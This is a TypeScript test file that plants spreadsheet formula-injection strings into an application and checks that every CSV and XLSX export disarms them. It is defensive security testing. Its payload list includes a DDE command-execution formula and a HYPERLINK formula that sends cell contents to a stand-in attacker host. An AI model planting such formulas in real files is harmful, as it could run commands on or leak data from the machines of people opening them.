import { contracts } from '@wstc/domain/contracts'
import { readCsv } from '@wstc/domain/kernel/csv'
import type { Contract } from '@wstc/domain/kernel/endpoint'
import { afterAll, beforeAll, expect, it } from 'vitest'
import { inspectZip, officeLimits } from '../../src/platform/zip.ts'
import { type CityHall, openCityHall, type Player } from '../access/city-hall.ts'
import { plantEverywhere } from './plant.ts'

/** What a spreadsheet runs, or hides before it runs it. */
const formulas = [
  '=1+1',
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://evil.example/?"&A1,"x")',
  '+1+1',
  '-1+1',
  '@SUM(1+1)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '＝1+1',
  '＋1+1',
  '－1+1',
  '＠SUM(1)',
]
const runs = /^[=+\-@\t\r\n＝＋－＠]/
const isNumber = /^[+-]?\d+(\.\d+)?$/

let hall: CityHall
let planted = 0
beforeAll(async () => {
  hall = await openCityHall()
  planted = await plantEverywhere(hall, formulas)
}, 180_000)
afterAll(() => hall?.world.close())

const tables = Object.values(contracts).flatMap((contract) =>
  Object.values(contract as Contract).filter(({ method, file }) =>
    Boolean(method === 'GET' && file?.length && file.every((one) => /csv|spreadsheet/.test(one))),
  ),
)

/** Every text of a sheet, wherever the workbook keeps it. */
async function sheetCells(bytes: Buffer): Promise<string[]> {
  const { contents } = await inspectZip(bytes, officeLimits, (name) => /\.xml$/.test(name))
  const plain = (text: string): string =>
    text
      .replace(/&lt;/g, '<')
      .replace(/&gt;/g, '>')
      .replace(/&quot;/g, '"')
      .replace(/&apos;/g, "'")
      .replace(/&#(\d+);/g, (_, code) => String.fromCharCode(Number(code)))
      .replace(/&amp;/g, '&')
  return [...contents].flatMap(([name, content]) => {
    const xml = content.toString('utf8')
    expect(xml, `${name} holds a formula`).not.toMatch(/<f[ >]/)
    return [...xml.matchAll(/<t(?: [^>]*)?>([^<]*)<\/t>/g)].map(([, text = '']) => plain(text))
  })
}

function csvCells(bytes: Buffer): string[] {
  return [...readCsv(bytes.toString('utf8'), ',')].flatMap((record) =>
    'cells' in record ? [...record.cells] : [record.fault],
  )
}

const readers: readonly Player[] = [
  'leader',
  'office',
  'leadHead',
  'statistician',
  'firmReporter',
  'systemAdmin',
  'auditAdmin',
]

it('no cell of any exported table runs, whatever was typed into the product', async () => {
  expect(planted).toBeGreaterThan(80)
  expect(tables.length).toBeGreaterThan(4)
  const faults: string[] = []
  let [cells, disarmed] = [0, 0]
  for (const { path } of tables) {
    let read = 0
    for (const who of readers) {
      for (const format of ['csv', 'xlsx']) {
        const url = path.replace(/:\w+/g, '5')
        const asked = await hall.ask(who, 'GET', `${url}?format=${format}`)
        // Some tables have one format and take no wish for another.
        const { status, raw } = asked.status === 400 ? await hall.ask(who, 'GET', url) : asked
        if (status !== 200) continue
        read += 1
        const isSheet = raw.subarray(0, 2).toString() === 'PK'
        for (const cell of isSheet ? await sheetCells(raw) : csvCells(raw)) {
          cells += 1
          if (cell.startsWith("'") && runs.test(cell.slice(1))) disarmed += 1
          if (runs.test(cell) && !isNumber.test(cell)) faults.push(`${path}: ${cell.slice(0, 60)}`)
        }
      }
    }
    if (read === 0 && !path.includes(':')) faults.push(`${path}: nobody could read it`)
  }
  expect(faults).toEqual([])
  expect(cells).toBeGreaterThan(1000)
  console.log(
    `formulas: ${planted} texts planted, ${tables.length} tables, ${cells} cells, ${disarmed} disarmed`,
  )
}, 120_000)
